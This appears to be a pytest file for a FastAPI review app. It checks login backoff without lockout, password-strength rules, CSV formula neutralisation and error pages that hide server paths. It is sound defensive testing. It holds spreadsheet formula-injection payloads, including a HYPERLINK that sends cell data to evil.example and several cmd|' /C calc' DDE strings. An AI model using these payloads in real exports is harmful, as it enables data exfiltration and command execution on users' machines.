"""Sign-in, passwords, exports and error pages hardened (issue 25, cause 12), through the app itself
(FastAPI's test client over a real queue file; argon2 hashes and checks as in production):

* failed sign-ins back off per account and never lock the owner out: the right password signs in after
  5, 10 and 30 failures, from the same browser and from a fresh one; a held attempt waits the backoff
  whether its password is right or wrong; 30 failures from one address slow no other account;
  ``bioevidence users unlock`` ends a backoff;
* the password policy refuses blank, short, repeated, sequential and common passwords and the account's
  own name, with one line naming the rule and exit 3;
* every CSV written from queued text neutralises cells a spreadsheet would run as a formula;
* a bad entry number is 404, and no error page shows a server path or a traceback.

The waits of held sign-ins are recorded (the app's ``sleep`` is replaced), never spent.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from web_support import PASSWORD, cli, need_web

need_web()

from fastapi.testclient import TestClient  # noqa: E402

from bioevidence.errors import ConfigurationError  # noqa: E402
from bioevidence.gate.validator import Validator  # noqa: E402
from bioevidence.loop.accounts import COMMON_PASSWORDS, check_password  # noqa: E402
from bioevidence.loop.audit import FORMULA_STARTS, csv_cell, read_csv  # noqa: E402
from bioevidence.loop.queue import ReviewQueue  # noqa: E402
from bioevidence.web.app import create_app  # noqa: E402
from bioevidence.web.sessions import Limits, delay_after  # noqa: E402
from bioevidence.web.state import Settings  # noqa: E402
from builders import record  # noqa: E402  (after the skip: the builders need no extra, the app does)

DANGEROUS = {  # each first character a spreadsheet acts on, as a cell an attacker would write
    "=": '=HYPERLINK("http://evil.example/?"&A1,"open")', "+": "+1+cmd|' /C calc'!A0", "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0", "\t": "\t=2+2", "\r": "\r=3+3",
}
SERVER_TEXT = ("/work/", "site-packages", "Traceback", ".py\"", 'File "')


@dataclass
class App:
    queue: Path
    client: TestClient
    web: Any
    waits: list[float] = field(default_factory=list)

    browsers: list[TestClient] = field(default_factory=list)

    def fresh(self) -> TestClient:
        """Another browser: no cookies at all (closed with the app)."""
        browser = TestClient(self.client.app, base_url="https://127.0.0.1", raise_server_exceptions=False)
        self.browsers.append(browser)
        return browser

    def close(self) -> None:
        for browser in [self.client, *self.browsers]:
            browser.close()

    def login(self, name: str, password: str, browser: TestClient | None = None) -> Any:
        browser = browser or self.client
        page = browser.get("/login")
        token = re.search(r'name="token" value="([^"]*)"', page.text)
        assert token is not None
        return browser.post("/login", data={"name": name, "password": password, "token": token.group(1),
                                            "next": "/queue"}, follow_redirects=False)

    def backoff(self, name: str) -> Any:
        return self.web.sessions().backoff(name)

    def failures(self, name: str) -> int:
        db = sqlite3.connect(self.queue)
        try:
            return int(db.execute("SELECT count(*) FROM web_login_attempts WHERE name = ? AND ok = 0",
                                  (name,)).fetchone()[0])
        finally:
            db.close()


def _queue(folder: Path, *, records: list[dict[str, Any]] = ()) -> Path:  # type: ignore[assignment]
    path = folder / "queue.sqlite"
    validator = Validator("general")
    with ReviewQueue(path) as queue:
        for rec in records:
            queue.add(rec, validator.validate(rec), reason="policy", profile="general")
        queue.accounts.add("owner", role="admin", password=PASSWORD, full_name="Olive Owner")
        queue.accounts.add("other", role="reviewer", password=PASSWORD)
    return path


def _app(queue: Path, validator_for: Any = None) -> App:
    settings = Settings(queue=queue, secret=b"s" * 32, limits=Limits())  # the production limits
    guard = create_app(settings, validator_for or (lambda name: Validator(name)))
    client = TestClient(guard, base_url="https://127.0.0.1", raise_server_exceptions=False)
    app = App(queue, client, guard.app.state.web)

    async def sleep(seconds: float) -> None:  # record the hold, do not spend it
        app.waits.append(seconds)

    app.web.sleep = sleep
    return app


@pytest.fixture()
def app(tmp_path: Path) -> Iterator[App]:
    made = _app(_queue(tmp_path))
    try:
        yield made
    finally:
        made.close()


def _signed_in(queue: Path) -> Iterator[App]:
    """The app over ``queue`` with the owner signed in, closed after (a fixture's body)."""
    made = _app(queue)
    assert made.login("owner", PASSWORD).status_code == 303
    try:
        yield made
    finally:
        made.close()


def _needs_person(uses: list[str]) -> dict[str, Any]:
    out = record("general", ["knowledge_base", "training_data"])
    out["requested_uses"] = uses
    return out


# -- backoff, never lockout ---------------------------------------------------------------------

@pytest.mark.parametrize("wrong", [5, 10, 30])
def test_the_right_password_signs_in_after_failures_from_the_same_browser_and_a_fresh_one(app: App,
                                                                                         wrong: int) -> None:
    limits = app.web.settings.limits
    for browser in (app.client, app.fresh()):
        app.waits.clear()
        for n in range(wrong):
            response = app.login("owner", "not the password, sorry")
            assert response.status_code == 401 and "Wrong name or password" in response.text  # never 429
            if n < limits.free_failures:
                assert app.waits == []  # the first five are not held
        state = app.backoff("owner")
        assert state.failures == wrong and state.delay == delay_after(wrong, limits) > 0
        held = len(app.waits)
        assert held == wrong - limits.free_failures  # every failure after the fifth was held first
        signed = app.login("owner", PASSWORD, browser)  # the fresh browser has no cookie of this account
        assert signed.status_code == 303 and signed.headers["location"] == "/queue"
        assert "bioevidence_session" in browser.cookies
        assert len(app.waits) == held + 1 and 0 < app.waits[-1] <= state.delay  # held like a guess, then let in
        assert app.backoff("owner").failures == 0  # a success ends the run of failures
        browser.cookies.clear()


def test_a_held_attempt_waits_the_doubling_backoff_whether_right_or_wrong(app: App) -> None:
    limits = app.web.settings.limits
    assert [delay_after(n, limits) for n in range(4, 12)] == [0, 1, 2, 4, 8, 16, 30, 30]  # doubling, capped at 30 s
    for n in range(12):
        held = len(app.waits)
        assert app.login("owner", f"wrong guess number {n}").status_code == 401
        expected = delay_after(n, limits)  # set by the n failures before this attempt
        if expected == 0:
            assert len(app.waits) == held  # answered at once
        else:
            assert len(app.waits) == held + 1 and expected - 1 < app.waits[-1] <= expected  # held, then refused
        assert app.backoff("owner").failures == n + 1  # and counted
    assert app.login("owner", PASSWORD).status_code == 303
    assert app.waits[-1] > 29  # the right password waited as long as a guess would: no early answer to learn from


def test_thirty_failures_from_one_address_slow_no_other_account(app: App) -> None:
    for n in range(30):  # one address (the test client's), many names
        assert app.login(("owner", "ghost", f"nobody{n % 6}")[n % 3], "wrong password here").status_code == 401
    app.waits.clear()
    signed = app.login("other", PASSWORD)
    assert signed.status_code == 303 and app.waits == []  # not held, not refused
    assert app.backoff("other").failures == 0


def test_unknown_names_back_off_like_real_ones(app: App) -> None:
    for _ in range(7):
        app.login("ghost", "wrong password here")
        app.login("owner", "wrong password here")
    assert app.backoff("ghost").delay == app.backoff("owner").delay == 4  # the same answer: names are not told apart


def test_a_flood_on_one_name_is_refused_unchecked_but_its_usual_browser_gets_through(app: App) -> None:
    usual = app.fresh()
    assert app.login("owner", PASSWORD, usual).status_code == 303  # this browser now knows the account
    assert "bioevidence_device" in usual.cookies
    usual.cookies.delete("bioevidence_session")
    for _ in range(app.web.settings.limits.in_flight):  # attempts held on "owner" by a flood of guesses
        assert app.web.in_flight.enter("owner", False)
    try:
        before = app.failures("owner"), len(app.waits)
        refused = app.login("owner", PASSWORD, app.fresh())
        assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
        assert "try again" in refused.text
        assert (app.failures("owner"), len(app.waits)) == before  # not checked, not counted, not held
        assert app.login("other", PASSWORD, app.fresh()).status_code == 303  # other names are untouched
        assert app.login("owner", PASSWORD, usual).status_code == 303  # the owner's usual browser is not refused
    finally:
        for _ in range(app.web.settings.limits.in_flight):
            app.web.in_flight.leave("owner")
    assert app.web.in_flight.count("owner") == 0


def test_a_device_cookie_is_void_for_another_name_and_after_a_password_change(app: App) -> None:
    usual = app.fresh()
    assert app.login("owner", PASSWORD, usual).status_code == 303
    cookie = usual.cookies["bioevidence_device"]
    sessions = app.web.sessions()
    assert sessions.known_device(cookie, "owner") and not sessions.known_device(cookie, "other")
    assert not sessions.known_device(cookie.replace("owner.", "other."), "other")
    with ReviewQueue(app.queue) as queue:
        queue.accounts.set_password("owner", "a brand new passphrase here")
    assert not app.web.sessions().known_device(cookie, "owner")


def test_users_unlock_ends_the_backoff_and_is_kept(app: App) -> None:
    for _ in range(12):
        app.login("owner", "wrong password here")
    assert app.backoff("owner").failures == 12 and app.backoff("owner").wait(1e12) == 0
    result = cli("users", "unlock", "owner", "--queue", app.queue)
    assert result.returncode == 0 and result.stdout.strip() == "unlocked owner (12 failed sign-ins cleared)"
    state = app.backoff("owner")
    assert state.failures == 0 and state.delay == 0 and state.wait(0) == 0
    db = sqlite3.connect(app.queue)
    kept = db.execute("SELECT client, ok FROM web_login_attempts WHERE name = 'owner' ORDER BY rowid DESC").fetchone()
    db.close()
    assert kept == ("users unlock", 1)
    app.waits.clear()
    assert app.login("owner", "one more wrong one").status_code == 401 and app.waits == []  # not held any more
    missing = cli("users", "unlock", "nobody", "--queue", app.queue)
    assert missing.returncode == 3 and "no account 'nobody'" in missing.stderr


# -- the password policy ------------------------------------------------------------------------

RULES = [
    ("", "blank"), ("            ", "blank"), (" \t  \t ", "blank"),
    ("short", "at least 12 characters"), ("Tr0ub4dor&3", "at least 12 characters"),
    ("aaaaaaaaaaaa", "repeated"), ("ZZZZZZZZZZZZZZZZ", "repeated"), ("abababababab", "repeated"),
    ("xyzxyzxyzxyz", "repeated"), ("!!!!!!!!!!!!!!", "repeated"),
    ("123456789012", "sequence"), ("abcdefghijkl", "sequence"), ("ABCDEFGHIJKLMNOP", "sequence"),
    ("098765432109", "sequence"), ("zyxwvutsrqpo", "sequence"), ("qwertyuiopasdf", "sequence"),
    ("owner2024!!!!", "own name"), ("ownerownerowner", "own name"), ("Olive Owner 1999", "own name"),
]


def _refusal(password: str, name: str = "owner", full_name: str | None = "Olive Owner") -> str:
    with pytest.raises(ConfigurationError) as info:
        check_password(password, name=name, full_name=full_name)
    return info.value.message


@pytest.mark.parametrize("password, rule", RULES, ids=[f"{rule}-{n}" for n, (_, rule) in enumerate(RULES)])
def test_each_password_rule_refuses_with_its_name(password: str, rule: str) -> None:
    assert rule in _refusal(password)


def _dressed_up(entry: str) -> Iterator[str]:
    """``entry`` as people lengthen it past the length rule."""
    yield entry.title() + "!" * max(1, 12 - len(entry))
    yield "#" + entry.upper() + "#" * max(1, 11 - len(entry))
    if not entry.isdigit():
        yield "2024 " + entry + " 2024"
    yield entry + entry + "!" * max(1, 12 - 2 * len(entry))


def test_every_blocklist_entry_is_refused_in_any_case_and_dressed_up() -> None:
    assert len(COMMON_PASSWORDS) >= 100
    for entry in COMMON_PASSWORDS:
        for bare in (entry, entry.upper(), entry * math.ceil(13 / len(entry))):
            _refusal(bare, name="zed", full_name=None)  # refused: as common, or as a sequence or a repetition
        for variant in _dressed_up(entry):
            assert "common password" in _refusal(variant, name="zed", full_name=None), variant
    for leet in ("P@ssw0rd2024!", "L3tm3in!!!!!!", "$h@d0w-12345678"):
        assert "common password" in _refusal(leet, name="zed", full_name=None), leet


def test_good_passwords_pass_the_policy() -> None:
    import secrets

    for good in (PASSWORD, "another long password", "owl-meadow-lantern-42", secrets.token_urlsafe(18),
                 "0987654321qw", "a" * 11 + "b"):
        check_password(good, name="owner", full_name="Olive Owner")


@pytest.mark.parametrize("command", ["add", "password"])
@pytest.mark.parametrize("password, rule", [
    ("", "blank"), ("   ", "blank"), ("short", "at least 12"), ("bbbbbbbbbbbbbb", "repeated"),
    ("234567890123", "sequence"), ("bcdefghijklmn", "sequence"), ("Password1234", "common password"),
    ("letmein", "common password"), ("BioEvidence!!!", "common password"), ("Qwerty123456", "common password"),
    ("dana2026dana", "own name"),
])
def test_users_add_and_password_refuse_with_one_line_and_exit_3(tmp_path: Path, command: str, password: str,
                                                                rule: str) -> None:
    queue = tmp_path / "q.sqlite"
    with ReviewQueue(queue) as made:
        if command == "password":
            made.accounts.add("dana", role="reviewer", password=PASSWORD)
    args = ["add", "dana", "--role", "reviewer"] if command == "add" else ["password", "dana"]
    result = cli("users", *args, "--password-stdin", "--queue", queue, stdin=password + "\n")
    lines = result.stderr.strip().splitlines()
    assert result.returncode == 3 and len(lines) == 1 and rule in lines[0], result.stderr
    assert password not in lines[0] or not password.strip()  # the refused password is never echoed
    with ReviewQueue(queue) as kept:  # nothing was written
        events = kept.db.execute("SELECT event FROM account_events").fetchall()
        assert [e[0] for e in events] == ([] if command == "add" else ["add"])


# -- CSV exports --------------------------------------------------------------------------------

@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cell_neutralises_each_dangerous_first_character(start: str) -> None:
    cell = csv_cell(start + "1+1")
    assert cell.startswith("'") and cell[1] in FORMULA_STARTS
    assert csv_cell("plain text") == "plain text" and csv_cell(-5) == -5 and csv_cell("x=1") == "x=1"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(text: str, expect: int) -> None:
    """No cell of ``text`` starts with a character a spreadsheet acts on, and no bare carriage return
    splits a row; ``expect`` cells were neutralised."""
    assert "\r" not in text
    cells = _cells(text)
    assert not [c for c in cells if c[:1] in FORMULA_STARTS], cells
    assert sum(1 for c in cells if c[:1] == "'" and c[1:2] in FORMULA_STARTS) >= expect


@pytest.fixture()
def hostile(tmp_path: Path) -> Iterator[App]:
    """A queue whose record asks for uses named like formulas, decided by reviewers with such ids."""
    queue = _queue(tmp_path, records=[_needs_person(["training_data", *DANGEROUS.values()])])
    validator = Validator("general")
    with ReviewQueue(queue) as q:
        for reviewer in DANGEROUS.values():
            q.decide(1, "accept", reviewer=reviewer, name="x", rationale="read the passage", validator=validator)
    yield from _signed_in(queue)


@pytest.mark.parametrize("export", ["predictions.csv", "decisions.csv"])
def test_the_audit_exports_neutralise_every_dangerous_cell(hostile: App, export: str) -> None:
    response = hostile.client.get(f"/audit/{export}")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    _assert_neutral(response.text, len(DANGEROUS))
    for value in DANGEROUS.values():  # and read back, each is what was queued (as bioevidence reads it)
        columns = ("requested_use",) if export == "predictions.csv" else ("requested_use", "reviewer_id")
        rows = read_csv(response.text, required=next(csv.reader(io.StringIO(response.text))))
        assert any(row[c] == value.replace("\r", "\n").strip() for row in rows for c in columns), value


def test_the_cli_csvs_neutralise_every_dangerous_cell(hostile: App, tmp_path: Path) -> None:
    predictions = cli("review", "predictions", "--method", "=cmd|' /C calc'!A0", "--queue", hostile.queue)
    assert predictions.returncode == 0, predictions.stderr
    _assert_neutral(predictions.stdout, len(DANGEROUS) + 1)
    (tmp_path / "preds.csv").write_text(predictions.stdout)
    hand = tmp_path / "hand.csv"  # predictions written by another tool, formulas and all
    rows = [{"case_id": value, "requested_use": "training_data", "record_sha256": "a" * 64,
             "profile_sha256": "b" * 64, "method": "m", "predicted_status": "admitted"} for value in DANGEROUS.values()]
    with hand.open("w", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    sampled = cli("review", "audit-sample", "--predictions", hand, "--size", "6", "--seed", "1", "--output-dir",
                  tmp_path / "audit")
    assert sampled.returncode == 0, sampled.stderr
    sheet = (tmp_path / "audit" / "audit_sheet.csv").read_text()
    _assert_neutral(sheet, 4)  # tab and carriage return are stripped when the hand-made file is read
    manifest = json.loads((tmp_path / "audit" / "audit_manifest.json").read_text())
    filled = tmp_path / "filled.csv"  # the sheet comes back filled in and still scores: ids round-trip
    sheet_rows = read_csv(sheet, required=next(csv.reader(io.StringIO(sheet))))
    for row in sheet_rows:
        row.update(reviewer_id="auditor-1", admission_label="admitted", mapping_label="correct")
    with filled.open("w", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(sheet_rows[0]))
        writer.writeheader()
        writer.writerows({k: csv_cell(v) for k, v in row.items()} for row in sheet_rows)
    scored = cli("review", "audit-score", "--manifest", tmp_path / "audit" / "audit_manifest.json", "--labels",
                 filled)
    assert scored.returncode == 0, scored.stderr
    assert manifest["sample"]["admitted"] == 6


# -- entry numbers and error pages --------------------------------------------------------------

BAD_IDS = ["999999", "-1", "0", "99999999999999999999", "9223372036854775808", "abc", "1.5", "1e3", "%20"]


def _assert_no_server_path(app: App, text: str) -> None:
    for leaked in (str(app.queue), str(app.queue.parent), *SERVER_TEXT):
        assert leaked not in text, leaked


@pytest.fixture()
def signed(tmp_path: Path) -> Iterator[App]:
    yield from _signed_in(_queue(tmp_path, records=[_needs_person(["knowledge_base", "training_data"])]))


@pytest.mark.parametrize("entry", BAD_IDS)
def test_a_bad_entry_number_is_404_without_a_server_path(signed: App, entry: str) -> None:
    page = signed.client.get(f"/entries/{entry}")
    assert page.status_code == 404 and ("no entry" in page.text or "no such entry" in page.text)
    _assert_no_server_path(signed, page.text)
    form = signed.client.get("/entries/1").text
    csrf = re.search(r'name="csrf" value="([^"]*)"', form)
    assert csrf is not None
    decided = signed.client.post(f"/entries/{entry}/decide", data={
        "csrf": csrf.group(1), "decision": "accept", "rationale": "read it", "request_id": "r" * 32})
    assert decided.status_code == 404
    _assert_no_server_path(signed, decided.text)


def test_no_error_page_shows_a_server_path_or_a_traceback(tmp_path: Path) -> None:
    queue = _queue(tmp_path, records=[_needs_person(["knowledge_base", "training_data"])])

    def broken(name: str | None) -> Any:  # a validator that fails naming its files, as a real failure would
        raise RuntimeError(f"cannot read {queue.parent}/snapshots/x.xml from /work/main/src/bioevidence/x.py")

    made = _app(queue, broken)
    assert made.login("owner", PASSWORD).status_code == 303
    try:
        pages = {path: made.client.get(path) for path in (
            "/entries/1", "/nowhere", "/static/nothing.css", "/queue?page=x", "/entries/1?decided=x",
            "/entries/2", "/ask/results/none")}
        pages["/login (forged)"] = made.fresh().post("/login", data={"name": "owner", "password": "x", "token": "y"})
        expected = {"/entries/1": 500, "/nowhere": 404, "/static/nothing.css": 404, "/queue?page=x": 400,
                    "/entries/1?decided=x": 400, "/entries/2": 404, "/ask/results/none": 404,
                    "/login (forged)": 403}
        assert {path: page.status_code for path, page in pages.items()} == expected
        for page in pages.values():
            _assert_no_server_path(made, page.text)
            assert page.headers["content-type"].startswith("text/html")
        assert "something went wrong on the server" in pages["/entries/1"].text
    finally:
        made.close()
